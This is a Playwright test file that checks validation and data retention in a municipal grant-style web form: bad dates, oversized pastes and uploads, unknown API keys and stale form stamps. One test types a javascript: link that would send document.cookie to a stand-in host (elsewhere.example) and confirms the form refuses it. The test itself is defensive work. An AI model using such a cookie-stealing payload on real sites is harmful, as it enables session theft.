import type { Page } from '@playwright/test';
import { people } from '@/prisma/demonstration/people';
import { applicationPath } from '../support/demonstration';
import { expect, test } from '../support/fixtures';
import { expectSaved, file, fillDate, list } from '../support/step-form';

/*
 * Bad input gets a clear message, and nothing that was typed is lost.
 */

const workforce = 'municipal-workforce-homelessness';

async function openStep(page: Page, step: string): Promise<void> {
  await page.goto(await applicationPath('pennyHollow', `/${workforce}?step=${step}`));
  await expectSaved(page);
}

test('a date that does not exist is kept, and named by the check with a link to it', async ({ as }) => {
  const page = await as(people.lena);
  await openStep(page, '2');
  const date = page.getByRole('group', { name: /^When did the task force/ });
  const before = await Promise.all(['Month', 'Day', 'Year'].map((part) => date.getByLabel(part).inputValue()));
  await fillDate(page, /^When did the task force/, '2025-02-30');
  await expectSaved(page);
  await page.getByRole('link', { name: 'Check this step' }).click();
  const summary = page.getByRole('alert', { name: /to mend on this step/ });
  await expect(summary).toBeFocused();
  await summary.getByRole('link').first().click();
  await expect(date.getByLabel('Month')).toBeFocused();
  await expect(date.getByLabel('Day')).toHaveValue('30');
  await expect(date).toHaveAccessibleDescription(/date/);

  await fillDate(page, /^When did the task force/, [before[2], before[0], before[1]].join('-'));
  await expectSaved(page);
  await page.getByRole('link', { name: 'Check this step' }).click();
  await expect(page.getByText('Nothing is left to mend here.')).toBeVisible();
});

test('a script in a link is refused beside its field, and the text stays', async ({ as, allowed }) => {
  allowed.push(/status of 422/);
  const page = await as(people.lena);
  await openStep(page, '3');
  const link = page.getByLabel('Link to the repository');
  const stored = await link.inputValue();
  const script = 'javascript:fetch("https://elsewhere.example/"+document.cookie)';
  await link.fill(script);
  await expect(page.getByText('1 answer cannot be saved as typed; the fields say why.').first()).toBeVisible();
  await expect(link).toHaveAccessibleDescription(/https:\/\//);
  await expect(link).toHaveValue(script);
  await expect(page.locator('[href^="javascript:"]')).toHaveCount(0);
  await link.fill(stored);
  await expectSaved(page);
});

test('ten thousand pasted rows are too many: a sentence says so, and nothing is added', async ({ as }) => {
  const page = await as(people.lena);
  await openStep(page, '1b');
  const log = list(page, 'Training log');
  const rows = await log.getByRole('button', { name: /^Edit/ }).count();
  const lines = Array.from(
    { length: 10_000 },
    (_, n) =>
      `Person ${n}\tStaff\tp${n}@pennyhollow.example\tHousing First\tHousing first\tForum\t2026-01-09\t2026-01-09`,
  );
  await log.getByRole('button', { name: 'Paste rows' }).click();
  await page.context().grantPermissions(['clipboard-read', 'clipboard-write']);
  await page.evaluate((text) => navigator.clipboard.writeText(text), lines.join('\n'));
  const pasted = log.getByLabel('Pasted rows');
  await pasted.focus();
  await page.keyboard.press('ControlOrMeta+V');
  await expect(log.getByText(/10,000 rows were pasted.*it holds at most 500\. Nothing was added\./)).toBeVisible();
  await expect(log.getByRole('button', { name: /^Add \d/ })).toHaveCount(0);
  expect((await pasted.inputValue()).split('\n')).toHaveLength(lines.length);
  await log.getByRole('button', { name: 'Discard the paste' }).click();
  await expect(log.getByRole('button', { name: /^Edit/ })).toHaveCount(rows);
  await expectSaved(page);
});

test('scripts that cannot be fetched when they are needed are said, and nothing that was typed is lost', async ({
  as,
  allowed,
}) => {
  allowed.push(/ERR_FAILED/);
  const page = await as(people.lena);
  await openStep(page, '1b');
  const scripts = '**/_next/static/chunks/**';
  await page.route(scripts, (route) => route.abort());

  const log = list(page, 'Training log');
  await log.getByRole('button', { name: /^Edit/ }).first().click();
  const training = log.getByLabel('Name of the training');
  const before = await training.inputValue();
  const behind = page.getByText('These points are from before your last changes.');
  await training.fill(`${before} again`);
  await expect(behind).toBeVisible();
  await expectSaved(page);
  await log.getByRole('button', { name: 'Paste rows' }).click();
  await expect(log.getByText('This could not be opened')).toBeVisible();
  await page.getByText('Upload files', { exact: true }).click();
  const files = page.getByLabel('Files', { exact: true });
  await files.setInputFiles(file('minutes.txt', 'Minutes'));
  await page.getByRole('button', { name: 'Upload', exact: true }).click();
  await expect(files).toHaveAccessibleDescription(/could not be sent/);
  expect(await files.evaluate((input: HTMLInputElement) => input.files?.length)).toBe(1);

  await page.unroute(scripts);
  await log.getByRole('button', { name: 'Paste rows' }).click();
  await log.getByRole('button', { name: 'Paste rows' }).click();
  await expect(log.getByLabel('Pasted rows')).toBeFocused();
  await training.fill(before);
  await expect(behind).toBeHidden();
  await expectSaved(page);
});

test('a key the form does not have is refused, and what is stored stays', async ({ as, baseURL }) => {
  const page = await as(people.lena);
  // A form that no other test writes in: what is compared is the revision of all of it.
  await page.goto(await applicationPath('pennyHollow', '/optimize-for-equity?step=1'));
  await expectSaved(page);
  const held = (name: string) => page.locator(`input[name="${name}"]`).first().inputValue();
  const [submission, stamp, base] = await Promise.all(['submission', 'stamp', 'base'].map(held));
  const put = (data: object) => page.request.put(`/api/answers/${submission}`, { headers: { origin: baseURL! }, data });
  const body = { base: Number(base), stamp, writer: crypto.randomUUID(), seq: 1 };

  const unknown = await put({ ...body, changes: { '1.shoe-size': '44' } });
  expect(unknown.status()).toBe(422);
  expect(await unknown.json()).toMatchObject({ ok: false, reasons: [{ at: '1.shoe-size' }] });
  const beside = await put({ ...body, changes: {}, points: 50 });
  expect(beside.status()).toBe(422);
  await page.reload();
  expect(await held('base')).toBe(base);
});

test('a form from before another rulebook says so, and keeps its text', async ({ as, allowed }) => {
  allowed.push(/status of 409/);
  const page = await as(people.lena);
  // The page was drawn by another rulebook: everything it sends carries that one's stamp.
  await page.route('**/api/answers/*', (route) =>
    route.continue({ postData: { ...(route.request().postDataJSON() as object), stamp: '0'.repeat(64) } }),
  );
  await page.goto(await applicationPath('pennyHollow', `/${workforce}?step=3`));
  const access = page.getByLabel('Who has access?');
  const stored = await access.inputValue();
  await access.fill(`${stored} And the fire company.`);
  await expect(page.getByText(/Reload/).first()).toBeVisible();
  await expect(page.getByText('Everything is saved.')).toBeHidden();
  await expect(access).toHaveValue(`${stored} And the fire company.`);
});

test('a file of 25.1 MB is refused in words before it is sent, and the form keeps its text', async ({ as }) => {
  const page = await as(people.lena);
  await openStep(page, '3');
  const evidence = page.getByRole('group', { name: 'A picture of the repository', exact: true });
  const posts: string[] = [];
  page.on('request', (request) => {
    if (request.url().endsWith('/api/evidence')) posts.push(request.method());
  });
  const contents = page.getByLabel('What is in it?');
  const stored = await contents.inputValue();
  await evidence.getByText('Upload files', { exact: true }).click();
  const buffer = Buffer.alloc(Math.ceil(25.1 * 1024 * 1024), 'x');
  await evidence
    .getByLabel('Files', { exact: true })
    .setInputFiles({ name: 'scan.pdf', mimeType: 'application/pdf', buffer });
  await evidence.getByRole('button', { name: 'Upload', exact: true }).click();
  await expect(evidence.getByText('The file is larger than 25 MB. Make it smaller')).toBeVisible();
  await expect(evidence.getByText('scan.pdf was not added')).toBeVisible();
  expect(posts).toEqual([]);
  await expect(contents).toHaveValue(stored);
  await expect(evidence.getByText('Nothing is attached yet.')).toBeVisible();
});
